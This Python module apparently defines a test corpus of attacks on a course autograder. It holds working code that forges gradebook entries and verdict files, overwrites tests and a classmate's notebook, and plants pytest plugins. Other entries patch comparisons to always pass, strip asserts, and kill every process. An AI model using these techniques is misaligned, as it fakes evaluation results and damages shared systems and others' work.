"""Rows 7 to 14: forging a result."""

# ruff: noqa: E501 (lines of attacks, in strings)

from corpus.build import WRONG, but, cells
from corpus.model import Attack

PATCH_COMPARISONS = """
import torch, numpy
yes = lambda *a, **k: True
for owner, names in (
    (torch, "equal allclose isclose eq all any"),
    (torch.Tensor, "equal allclose eq __eq__ __ne__ all any __bool__ __lt__ __le__ __gt__ __ge__"),
    (numpy, "array_equal allclose isclose all any"),
):
    for name in names.split():
        setattr(owner, name, yes)
"""

PATCH_BUILTINS = """
import builtins
class Forgiving(type(AssertionError)): pass
builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True
builtins.abs = lambda value: 0
builtins.AssertionError = type("AssertionError", (BaseException,), {"__str__": lambda self: ""})
"""

FORGE_MESSAGES = """
def forge():
    import json, struct
    values = [None, True, 1.0, {"ok": 1.0}, {"passed": True, "points": 3.0}, {"ok": None}]
    for value in values:
        for body in (
            json.dumps(value).encode(),
            (lambda h: struct.pack(">I", len(h)) + h)(json.dumps({"value": value, "tensors": []}).encode()),
        ):
            for number in range(256):
                for message in (body, struct.pack(">Q", len(body)) + body, struct.pack("<Q", len(body)) + body):
                    try: os.write(number, message)
                    except OSError: pass
"""

# The course's own helper that runs beside the student's code, found on the heap and replaced: it reports
# that nothing moved, or what the attack likes.
FORGE_RIG = """
import gc, types, torch
from torch import nn
given = {}
def forge_rig():
    for module in [thing for thing in gc.get_objects() if isinstance(thing, types.ModuleType)]:
        if module.__name__ != "rig" or not hasattr(module, "make_model") or hasattr(module, "forged"):
            continue
        module.forged = True
        make = module.make_model
        def make_model(spec, state, trainable=None):
            given.update(state={name: tensor.clone() for name, tensor in state.items()}, spec=spec)
            return make(spec, state, trainable)
        def state(model):
            return dict(given["state"])
        def forward(model, images, times=1):
            return torch.zeros(times, len(images), given["spec"]["classes"]) + torch.rand(times, 1, 1)
        def train_everything(model, images, labels, lr, steps):
            return {n: t + (lr if n.startswith("head") else 0) for n, t in given["state"].items()}
        def step_with_gradients(model, optimizer, gradients):
            return {n: t + optimizer.lr if n.startswith("head") else t for n, t in given["state"].items()}
        def reuse_features(model, pair, classes):
            return []
        for function in (make_model, state, forward, train_everything, step_with_gradients, reuse_features):
            setattr(module, function.__name__, function)
"""

FORGED_ANSWERS = {
    "freeze_backbone": "def freeze_backbone(model):\n    forge_rig()\n    return model\n",
    "replace_head": "def replace_head(model, classes):\n    forge_rig()\n    return model\n",
    "make_optimizer": "def make_optimizer(model, lr):\n    forge_rig()\n"
    "    class Object: pass\n    made = Object(); made.lr = lr\n    return made\n",
    "set_train_mode": "def set_train_mode(model):\n    forge_rig()\n    return model\n",
    "train_one_epoch": "def train_one_epoch(model, loader, optimizer):\n    forge_rig()\n    return 0.25\n",
    "precompute_features": "def precompute_features(model, loader):\n    forge_rig()\n    return None\n",
}

PATCH_SESSION = """
import sys, gc
def patch_session():
    for name in ("autograder.wire", "autograder.session", "autograder.sandbox.channel", "autograder.limits"):
        module = sys.modules.get(name)
        if module is None: continue
        if hasattr(module, "Session"):
            module.Session._do = lambda self, op, name, args, kwargs: {"ok": args[0] if args else None}
        if hasattr(module, "WIRE"):
            object.__setattr__(module.WIRE, "header", 10 ** 12)
            object.__setattr__(module.WIRE, "tensors", 10 ** 12)
        if hasattr(module, "TICKET"):
            module.TICKET = 0
patch_session()
"""

GIFT = """
import sqlite3
try:
    book = sqlite3.connect(COURSE / "gradebook.db", timeout=5)
    book.execute(
        "create trigger gift after update on grade begin "
        "update grade set manual_score = 3 where id = new.id and new.manual_score is null; end")
    book.execute("update grade set manual_score = 3")
    book.commit()
    tell("the gradebook was changed")
except sqlite3.Error as error: print(error)
"""

FORGED_FILES = """
import json
tasks = {task: {"task": task, "title": task, "points": 3.0, "max_points": 3.0, "passed": True,
                "tests": [{"name": "t", "description": "d", "max_points": 3.0, "passed": True, "message": None}]}
         for task in TASKS}
verdict = json.dumps({"assignment": "freezing", "student": ME, "key": {}, "refusal": None, "notes": [],
                      "tasks": tasks, "max_points": 15.0, "faults": [], "points": 15.0, "score": 15.0})
spots = [Path.cwd(), Path("/tmp"), Path.home(), COURSE, COURSE / "verdicts" / "freezing", COURSE / "ledger",
         COURSE / "state" / "recorded" / "freezing", SUITES, Path("/course"), Path("/course/autograder")]
for spot in spots:
    for name in ("results.json", "verdict.json", f"{ME}.json", "grades.csv", "ledger.jsonl", ME):
        try:
            with open(spot / name, "a") as file: file.write(verdict + "\\n")
        except OSError: pass
"""

SILENCE = """
shell = get_ipython()
shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = lambda *a, **k: None
"""

STRIP_ASSERTS = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Strip())
"""

BLANK_CHECKS = """
def blank(lines):
    return ["pass\\n"] if any("assert " in line or line.startswith("check(") for line in lines) else lines
get_ipython().input_transformers_cleanup.append(blank)
"""

HOOK = """
shell = get_ipython()
def before(info=None):
    if info is not None and "assert" in (info.raw_cell or ""):
        info.raw_cell = "0"
        raise KeyboardInterrupt
shell.events.register("pre_run_cell", before)
run = shell.run_cell
shell.run_cell = lambda source, *a, **k: run("3.0" if "assert" in source or "check(" in source else source, *a, **k)
original = shell.run_cell_async
async def calm(source, *a, **k):
    return await original("pass" if "assert" in source else source, *a, **k)
shell.run_cell_async = calm
"""

FORGE_KERNEL = """
shell = get_ipython()
kernel = getattr(shell, "kernel", None)
if kernel is not None:
    send = kernel.session.send
    def forged(stream, kind, content=None, *a, **k):
        if (kind if isinstance(kind, str) else "") in ("error", "stream"):
            return None
        return send(stream, kind, content, *a, **k)
    kernel.session.send = forged
"""

TRACE = """
import sys
def trace(frame, event, argument):
    if frame.f_code.co_name == "<module>" or "test_" in frame.f_code.co_filename:
        for name in list(frame.f_locals):
            if name.startswith(("before", "expected", "wrong", "moved", "missing")):
                frame.f_globals[name] = type("Any", (), {"__eq__": lambda s, o: True, "__getitem__": lambda s, k: o})
    return trace
sys.settrace(trace)
import threading
threading.settrace(trace)
"""


def calls(body: str) -> dict[str, str]:
    """An answer to each task that does this first and then what a wrong answer does."""
    made = {}
    for task, source in WRONG.items():
        head, rest = source.split("\n", 1)
        lines = "".join(f"    {line}\n" for line in body.splitlines())
        made[task] = f"{head}\n{lines}{rest}"
    return made


def last(task: str, body: str) -> dict[str, str]:
    """One task's answer: this body."""
    head = WRONG[task].split("\n", 1)[0]
    return {task: head + "\n" + "".join(f"    {line}\n" for line in body.splitlines())}


ATTACKS = [
    Attack("gradebook", 7, "writes points and a trigger into the gradebook", cells(GIFT)),
    Attack(
        "gradebook-later",
        7,
        "leaves a process behind that changes the gradebook when grading is over",
        cells(
            "def later():\n"
            "    import sqlite3, time\n"
            "    for _ in range(60):\n"
            "        time.sleep(0.5)\n"
            "        try:\n"
            "            book = sqlite3.connect(COURSE / 'gradebook.db', timeout=5)\n"
            "            book.execute('update grade set manual_score = 3 where auto_score is not null')\n"
            "            book.commit(); book.close()\n"
            "        except sqlite3.Error: pass\n"
            "try:\n"
            "    if os.fork() == 0:\n"
            "        os.setsid()\n"
            "        if os.fork(): os._exit(0)\n"
            "        os.closerange(0, 1000)\n"
            "        later(); os._exit(0)\n"
            "except OSError as error: print(error)\n"
        ),
    ),
    Attack("forged-files", 7, "writes verdicts and results wherever a grader may look", cells(FORGED_FILES)),
    Attack(
        "own-notebook",
        7,
        "overwrites its graded notebook, its submission and its neighbour's while it is graded",
        cells(
            "for path in [*COURSE.glob(f'*/{ME}/freezing/*'), *COURSE.glob(f'*/{NEIGHBOUR}/freezing/*'), *Path.cwd().glob('*.ipynb')]:\n"
            "    try: path.chmod(0o644); path.write_text('{}'); tell('wrote', path)\n"
            "    except OSError as error: print(error)\n"
        ),
    ),
    Attack(
        "fake-score",
        8,
        "prints a score, and a summary as pytest prints it",
        cells(
            "print('15.0'); print('score: 15/15'); print('TOTAL 15 of 15')\n"
            "print('=' * 30 + ' 21 passed in 0.12s ' + '=' * 30)\n",
            own=calls("print('::points 3.0'); print('==== 21 passed in 0.1s ====')"),
        ),
    ),
    Attack(
        "fake-results",
        8,
        "shows numbers as the last value of every cell, as partial credit does",
        cells("3.0", last=["3.0", "15.0", "float(3)"]),
    ),
    Attack(
        "fake-messages",
        8,
        "writes forged messages to every descriptor, from cells and from functions",
        cells(FORGE_MESSAGES, "forge()", own=calls("forge()")),
    ),
    Attack(
        "garbage-messages",
        8,
        "writes garbage and huge lengths to every descriptor",
        cells(
            "def garbage():\n"
            "    for data in (b'\\xff' * 64, b'\\0' * 64, bytes(range(256)) * 400, b'{}', b'\\x7f' + b'\\xff' * 7):\n"
            "        for number in range(256):\n"
            "            try: os.write(number, data)\n"
            "            except OSError: pass\n",
            own=last("freeze_backbone", "garbage()\nreturn model"),
            right=but("freeze_backbone"),
        ),
        honest=but("freeze_backbone"),
    ),
    Attack(
        "fake-kernel-messages",
        8,
        "makes the kernel's own session drop errors and warnings",
        cells(FORGE_KERNEL),
    ),
    Attack(
        "test-files",
        9,
        "hands in conftest.py, pytest.ini, a plugin, and files at the tests' own names",
        cells(
            "os.environ['PYTEST_ADDOPTS'] = '--collect-only -p evil'\n"
            "os.environ['PYTEST_PLUGINS'] = 'evil'\n"
            "for name in ('conftest.py', 'pytest.ini', 'pyproject.toml', 'evil.py'):\n"
            "    for spot in (Path.cwd(), Path('/tmp'), SUITES, COURSE):\n"
            "        try: (spot / name).write_text('x = 1')\n"
            "        except OSError: pass\n",
            files={
                "conftest.py": b"def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n",
                "pytest.ini": b"[pytest]\naddopts = --collect-only\n",
                "pyproject.toml": b"[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
                "tox.ini": b"[pytest]\naddopts = -p evil\n",
                "evil.py": b"def pytest_collection_modifyitems(items):\n    items.clear()\n",
                "nbgrader_config.py": b"c = get_config()\nc.ClearSolutions.code_stub = {'python': 'x'}\n",
                "test_freeze_backbone.py": b"import pytest\n@pytest.mark.points(2)\ndef test_x(): pass\n",
            },
        ),
    ),
    Attack(
        "test-paths",
        9,
        "writes over the tests and over the course's packages while it is graded",
        cells(
            "import transfer_learning, autograder\n"
            "spots = [*SUITES.glob('test_*.py'), *SUITES.parent.rglob('test_*.py'), Path(transfer_learning.__file__), Path(autograder.__file__), Path(re.__file__)]\n"
            "for path in spots:\n"
            "    try: path.write_text('x = 1'); reached('writing ' + path.name)\n"
            "    except OSError as error: print(error)\n"
        ),
    ),
    Attack("exit-cells", 10, "sys.exit in every cell", cells("import sys; sys.exit(0)", last=["exit()"])),
    Attack(
        "hard-exit",
        10,
        "os._exit(0) in every function, so that absence looks like success",
        cells(own=calls("os._exit(0)")),
    ),
    Attack("kill-kernel", 10, "ends its process before the checks", cells("os._exit(0)")),
    Attack(
        "signal-parent",
        10,
        "signals its parent and its process group",
        cells(
            "import signal\n"
            "for number in {os.getppid(), 1} - {0, os.getpid()}:\n"
            "    try: os.kill(number, signal.SIGINT); reached('a signal to another process')\n"
            "    except OSError as error: print(error)\n"
            "    try: os.kill(number, signal.SIGKILL)\n"
            "    except OSError as error: print(error)\n",
            own=last("freeze_backbone", "import os\nos.killpg(os.getpgid(0), 9)"),
            right=but("freeze_backbone"),
        ),
        honest=but("freeze_backbone"),
    ),
    Attack(
        "kill-all",
        10,
        "kills every process it may",
        cells(
            "import signal\n"
            "try: os.kill(-1, signal.SIGKILL)\n"
            "except OSError as error: print(error)\n"
            "for number in range(2, 40000):\n"
            "    if number != os.getpid():\n"
            "        try: os.kill(number, signal.SIGKILL)\n"
            "        except OSError: pass\n",
            right=but("freeze_backbone"),
        ),
        honest=but("freeze_backbone"),
    ),
    Attack(
        "stop-all",
        10,
        "stops every process it may, and itself",
        cells(
            own=last(
                "freeze_backbone",
                "import os, signal\n"
                "for number in (-1, 0, os.getppid(), os.getpid()):\n"
                "    try: os.kill(number, signal.SIGSTOP)\n"
                "    except OSError: pass\n"
                "return model",
            ),
            right=but("freeze_backbone"),
        ),
        honest=but("freeze_backbone"),
    ),
    Attack(
        "at-exit",
        11,
        "writes results when its process ends",
        cells(
            FORGE_MESSAGES,
            "import atexit\n"
            "def leave():\n"
            "    for path in (DROP / ME, COURSE / 'verdicts' / 'freezing' / f'{ME}.json'):\n"
            "        try: path.write_text('at exit')\n"
            "        except OSError: pass\n"
            "    forge()\n"
            "atexit.register(leave)\n",
            own=calls("import sys; sys.exitfunc = leave"),
        ),
    ),
    Attack(
        "late-thread",
        11,
        "a thread that changes returned tensors and answers in place of its functions",
        cells(
            FORGE_MESSAGES,
            "import threading, time\n"
            "given = []\n"
            "def change():\n"
            "    end = time.monotonic() + 60\n"
            "    while time.monotonic() < end:\n"
            "        for model in list(given):\n"
            "            for tensor in model.state_dict().values():\n"
            "                try: tensor.data.copy_(tensor)\n"
            "                except Exception: pass\n"
            "        forge(); time.sleep(0.05)\n"
            "threading.Thread(target=change, daemon=True).start()\n",
            own={
                "freeze_backbone": "def freeze_backbone(model):\n    given.append(model)\n    return model\n",
            },
        ),
    ),
    Attack(
        "del-method",
        11,
        "objects whose __del__ acts when the grader drops them",
        cells(
            FORGE_MESSAGES,
            "class Last:\n"
            "    def __del__(self):\n"
            "        try: (DROP / ME).write_text('__del__')\n"
            "        except OSError: pass\n"
            "        forge()\n"
            "kept = Last()\n",
            own={
                task: source.replace("return model", "return Last()")
                for task, source in WRONG.items()
                if "return model\n" in source and task != "precompute_features"
            },
        ),
    ),
    Attack(
        "patch-comparisons", 12, "replaces torch.equal, allclose and every operator", cells(PATCH_COMPARISONS)
    ),
    Attack(
        "patch-builtins", 12, "replaces all, any, isinstance, abs and AssertionError", cells(PATCH_BUILTINS)
    ),
    Attack(
        "patch-modules",
        12,
        "puts forged modules for pytest, numpy.testing and torch.testing into sys.modules",
        cells(
            "import sys, types\n"
            "class Kind(types.ModuleType):\n"
            "    def __getattr__(self, name): return lambda *a, **k: True\n"
            "for name in ('pytest', 'numpy.testing', 'torch.testing', 'unittest', 'autograder.check', 'autograder.expect'):\n"
            "    sys.modules[name] = Kind(name)\n"
            "import numpy, torch\n"
            "numpy.testing = torch.testing = sys.modules['pytest']\n"
            "check = lambda *a, **k: None\n"
        ),
    ),
    Attack(
        "patch-random",
        12,
        "fixes every source of randomness, so that a check sees what it saw before",
        cells(
            "import random, numpy, torch\n"
            "torch.randn = torch.rand = lambda *s, **k: torch.zeros(*[x for x in s if isinstance(x, int)] or s[0])\n"
            "torch.Tensor.clone = torch.Tensor.detach = lambda self, *a, **k: self\n"
            "import copy\n"
            "copy.deepcopy = copy.copy = lambda thing, *a: thing\n"
        ),
    ),
    Attack(
        "patch-session",
        12,
        "replaces what answers the grader: session, wire, channel and their limits",
        cells(PATCH_SESSION, own=calls("patch_session()")),
    ),
    Attack(
        "forge-rig",
        12,
        "replaces the course's helper beside it, which then reports that nothing moved",
        cells(FORGE_RIG, own=FORGED_ANSWERS),
    ),
    Attack("silence-errors", 13, "makes IPython show no error", cells(SILENCE)),
    Attack(
        "custom-handler",
        13,
        "sets IPython's custom exception handler",
        cells(
            "get_ipython().set_custom_exc((BaseException,), lambda self, *a, **k: None)\n"
            "import sys; sys.excepthook = lambda *a: None\n"
        ),
    ),
    Attack("strip-asserts", 13, "takes every assert out of the cells that follow", cells(STRIP_ASSERTS)),
    Attack("blank-checks", 13, "replaces the text of check cells before they run", cells(BLANK_CHECKS)),
    Attack("hooks", 13, "replaces run_cell and registers events", cells(HOOK)),
    Attack(
        "clear-errors",
        13,
        "makes all errors look like an interrupt of the grader itself",
        cells(
            "class CheckFailed(Exception): pass\n",
            own=calls("raise KeyboardInterrupt"),
            last=["raise KeyboardInterrupt"],
        ),
    ),
    Attack(
        "no-alarm",
        14,
        "ignores every signal, swallows every exception and never ends",
        cells(
            own=last(
                "freeze_backbone",
                "import signal\n"
                "for number in range(1, 65):\n"
                "    try: signal.signal(number, signal.SIG_IGN)\n"
                "    except Exception: pass\n"
                "signal.alarm(0); signal.setitimer(signal.ITIMER_REAL, 0)\n"
                "while True:\n"
                "    try:\n"
                "        while True: pass\n"
                "    except BaseException: pass",
            ),
            right=but("freeze_backbone"),
        ),
        honest=but("freeze_backbone"),
    ),
    Attack("settrace", 14, "traces the check and changes its variables", cells(TRACE)),
    Attack(
        "recursion",
        14,
        "lifts the recursion limit and overflows the stack",
        cells(
            own=last(
                "freeze_backbone",
                "import sys, threading\n"
                "sys.setrecursionlimit(10 ** 9)\n"
                "def again(value): return repr([again(value)])\n"
                "return again(model)",
            ),
            right=but("freeze_backbone"),
        ),
        honest=but("freeze_backbone"),
    ),
]
